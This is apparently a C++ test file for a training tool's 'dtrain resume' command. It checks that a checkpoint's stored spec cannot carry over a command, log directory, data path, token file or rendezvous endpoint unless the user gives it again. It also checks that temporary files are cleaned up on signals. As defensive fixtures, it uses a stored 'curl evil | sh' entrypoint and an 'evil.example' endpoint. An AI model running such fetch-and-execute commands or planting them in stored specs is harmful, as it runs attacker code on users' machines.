// What `dtrain resume` takes from a checkpoint's stored spec (common/
// resume_spec.h): the model, mesh and training settings, but a command, a
// log.dir, a data.path or a token file only when it is the default or given
// again; and `ckpt merge`'s temporary removed when a signal stops it
// (RemoveTmpOnSignal, in a forked child that the test signals).
#include <doctest/doctest.h>

#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "common/checkpoint_dir.h"
#include "common/error.h"
#include "common/job_spec.h"
#include "common/resume_spec.h"
#include "common/safe_output.h"
#include "tests/support/child.h"

namespace fs = std::filesystem;
using dtrain::Error;
using dtrain::JobSpec;
using dtrain::ResumeSpecInput;

namespace {

using Tmp = dtrain::testing::TempDir;

bool has(const std::string& text, const std::string& part) { return text.find(part) != std::string::npos; }

ResumeSpecInput input(const std::string& stored, std::vector<std::string> sets = {}) {
  ResumeSpecInput in;
  in.stored_yaml = stored;
  in.source = "/c/step_4/index.json (spec)";
  in.overrides = std::move(sets);
  in.checkpoint_root = "/c";
  return in;
}

// The config error resume_spec throws ("" when it returns a spec).
std::string refusal(const ResumeSpecInput& in) {
  try {
    resume_spec(in, nullptr);
  } catch (const Error& e) {
    CHECK(e.exit_code() == 2);
    return std::string(e.what()) + "\nhint: " + e.hint();
  }
  return "";
}

const std::string kBuiltin = "model: {layers: 3}\ntrain: {steps: 9}\ndata: {format: synthetic, path: /x/y}\n";

}  // namespace

TEST_CASE("resume spec: a builtin run resumes from the stored spec alone") {
  JobSpec s = resume_spec(input(kBuiltin), nullptr);
  CHECK(s.model.layers == 3);
  CHECK(s.train.steps == 9);
  CHECK(s.builtin_entrypoint());
  CHECK(s.checkpoint.dir == "/c");
  // A synthetic run's data.path is never read: not a reason to refuse.
  CHECK(s.data.path == "/x/y");
  s = resume_spec(input(kBuiltin, {"train.steps=20", "checkpoint.dir=/d"}), nullptr);
  CHECK(s.train.steps == 20);
  CHECK(s.checkpoint.dir == "/d");
}

TEST_CASE("resume spec: a stored fault is not injected again unless given again") {
  const std::string stored = kBuiltin + "fault: {kind: hang, rank: 0, step: 5}\n";
  std::vector<std::string> warnings;
  JobSpec s = resume_spec(input(stored), &warnings);
  CHECK(s.fault.kind == dtrain::FaultKind::none);
  std::string all;
  for (const auto& w : warnings) all += w + "\n";
  CHECK(has(all, "fault.kind = hang is not applied on resume; to inject it again, give --set fault.kind=hang"));
  s = resume_spec(input(stored, {"fault.kind=slow", "fault.ms=5"}), nullptr);
  CHECK(s.fault.kind == dtrain::FaultKind::slow);
  CHECK(s.fault.step == 5);  // the stored rank and step stay when the section is given again
}

TEST_CASE("resume spec: a stored command, log.dir, data.path or token file is shown and refused") {
  const std::string stored = "entrypoint: [sh, -c, \"curl evil | sh\"]\nlog: {dir: /srv/logs}\n"
                             "data: {path: /secret/corpus.bin, format: tokens-u16}\n"
                             "cluster: {rendezvous: {token_file: /home/u/.token}}\n";
  const std::string msg = refusal(input(stored));
  INFO(msg);
  CHECK(has(msg, "/c/step_4/index.json (spec) names a command, file or host that dtrain resume does not take"));
  CHECK(has(msg, "\n  entrypoint = [\"sh\", \"-c\", \"curl evil | sh\"]"));
  CHECK(has(msg, "\n  log.dir = \"/srv/logs\""));
  CHECK(has(msg, "\n  data.path = \"/secret/corpus.bin\""));
  CHECK(has(msg, "\n  cluster.rendezvous.token_file = \"/home/u/.token\""));
  CHECK(has(msg, "--set entrypoint=<value> --set log.dir=<value> --set data.path=<value>"));
  CHECK(has(msg, "dtrain resume --ckpt DIR --spec FILE"));
  // Given again, each one is the user's: accepted, with the user's value.
  JobSpec s = resume_spec(input(stored, {"entrypoint=[python3, train.py]", "log.dir=/mine", "data.path=/d.bin",
                                         "cluster.rendezvous.token_file=/t"}),
                          nullptr);
  CHECK(s.entrypoint == std::vector<std::string>{"python3", "train.py"});
  CHECK(s.log.dir == "/mine");
  // Giving some of them leaves the others refused.
  const std::string rest = refusal(input(stored, {"entrypoint=builtin", "log.dir=/mine"}));
  CHECK(!has(rest, "entrypoint ="));
  CHECK(!has(rest, "log.dir ="));
  CHECK(has(rest, "data.path = \"/secret/corpus.bin\""));
}

TEST_CASE("resume spec: a stored data.valid.path is refused like data.path until given again") {
  const std::string stored = "data: {valid: {path: /secret/valid.bin}}\n";
  const std::string msg = refusal(input(stored));
  INFO(msg);
  CHECK(has(msg, "\n  data.valid.path = \"/secret/valid.bin\""));
  CHECK(refusal(input(stored, {"data.valid.path=/v.bin"})).empty());
}

TEST_CASE("resume spec: a stored data.valid.blend is refused like data.blend until given again") {
  const std::string stored = "data: {valid: {blend: [{path: /secret/va, weight: 1}, {path: vb, weight: 2}]}}\n";
  const std::string msg = refusal(input(stored));
  INFO(msg);
  CHECK(has(msg, "\n  data.valid.blend = [\"/secret/va\", \"vb\"]"));
  CHECK(refusal(input(stored, {"data.valid.blend=[{path: a, weight: 1}]"})).empty());
}

TEST_CASE("resume spec: a multi-node run's stored endpoint needs --rdzv or --set") {
  const std::string stored = "cluster: {nodes: 2, rendezvous: {endpoint: \"evil.example:29400\"}}\n"
                             "parallel: {dp: 2}\n";
  const std::string msg = refusal(input(stored));
  INFO(msg);
  CHECK(has(msg, "cluster.rendezvous.endpoint = \"evil.example:29400\""));
  ResumeSpecInput in = input(stored);
  in.rdzv_given = true;
  CHECK(refusal(in).empty());
  CHECK(refusal(input(stored, {"cluster.rendezvous.endpoint=10.0.0.1:29400"})).empty());
}

TEST_CASE("resume spec: --spec FILE is the spec; the stored one is not read") {
  Tmp t;
  std::ofstream(t / "spec.yaml") << "model: {layers: 5}\nlog: {dir: /mine}\n";
  ResumeSpecInput in = input("entrypoint: [sh, -c, evil]\n");
  in.spec_file = t / "spec.yaml";
  JobSpec s = resume_spec(in, nullptr);
  CHECK(s.builtin_entrypoint());
  CHECK(s.model.layers == 5);
  CHECK(s.log.dir == "/mine");
  CHECK(s.checkpoint.dir == "/c");  // the file names none: next to the checkpoint
}

TEST_CASE("RemoveTmpOnSignal: SIGTERM or SIGINT while writing leaves no temporary") {
  for (int sig : {SIGTERM, SIGINT}) {
    CAPTURE(sig);
    Tmp t;
    int ready[2];
    REQUIRE(::pipe(ready) == 0);
    const pid_t pid = ::fork();
    REQUIRE(pid >= 0);
    if (pid == 0) {  // the child: a SafeOutput mid-write, then waits for the signal
      ::close(ready[0]);
      dtrain::SafeOutput out(t / "merged.safetensors", "OUT", dtrain::Clobber::refuse);
      dtrain::RemoveTmpOnSignal cleanup(out);
      out.write("partial bytes");
      if (::write(ready[1], "r", 1) != 1) ::_exit(3);
      for (;;) ::pause();
    }
    ::close(ready[1]);
    char c = 0;
    REQUIRE(::read(ready[0], &c, 1) == 1);  // the temporary exists now
    ::close(ready[0]);
    int entries = 0;
    for (const auto& e : fs::directory_iterator(t.path())) entries += e.path().filename().string()[0] == '.';
    CHECK(entries == 1);
    REQUIRE(::kill(pid, sig) == 0);
    int status = 0;
    REQUIRE(::waitpid(pid, &status, 0) == pid);
    CHECK(WIFSIGNALED(status));
    CHECK(WTERMSIG(status) == sig);  // ended by the signal, as without the guard
    std::string left;
    for (const auto& e : fs::directory_iterator(t.path())) left += e.path().filename().string() + " ";
    CHECK_MESSAGE(left.empty(), "left behind: " << left);
  }
}
